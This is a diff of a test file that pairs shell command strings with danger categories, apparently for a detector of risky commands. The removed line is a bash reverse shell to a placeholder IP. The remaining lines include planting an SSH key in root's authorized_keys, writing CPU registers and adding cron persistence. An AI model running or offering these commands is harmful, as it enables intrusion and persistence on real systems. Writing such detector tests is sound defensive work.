@@ -137,7 +137,7 @@ class WordsTest {
         "modprobe msr~ MODEL_REGISTERS",
         "wrmsr -a 0x1a4 0xf~ MODEL_REGISTERS",
         "echo k >> /root/.ssh/authorized_keys~ AUTHORIZED_KEYS",
-        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1~ REVERSE_SHELL",
+        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done~ REVERSE_SHELL",
         "(crontab -l; echo x) | crontab -~ CRONTAB",
         "echo x > /etc/cron.d/y~ CRONTAB",
         "echo x >> /mnt/etc/crontab~ CRONTAB",
